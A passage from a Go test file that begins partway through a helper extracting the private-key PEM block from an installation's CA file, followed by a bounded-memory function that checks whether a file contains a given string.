		t.Fatalf("the install's CA: %v", err)
	}
	for rest := data; ; {
		var b *pem.Block
		if b, rest = pem.Decode(rest); b == nil {
			t.Fatalf("%s holds no private key", path)
		}
		if strings.Contains(b.Type, "PRIVATE KEY") {
			return pem.EncodeToMemory(b)
		}
	}
}

// fileContains streams path looking for s, in bounded memory.
func fileContains(path, s string) (bool, error) {
	f, err := os.Open(path)
	if err != nil {
		return false, err
	}
	defer f.Close()
	buf := make([]byte, 1<<20)
	carry := 0 // bytes kept from the last read: a match may span two
	for {
		n, err := f.Read(buf[carry:])
		window := buf[:carry+n]
		if strings.Contains(string(window), s) {
			return true, nil
		}
		if err != nil {
			if err == io.EOF {
				return false, nil
			}
			return false, err
		}
		carry = min(len(s)-1, len(window))
		copy(buf, window[len(window)-carry:])
	}
}
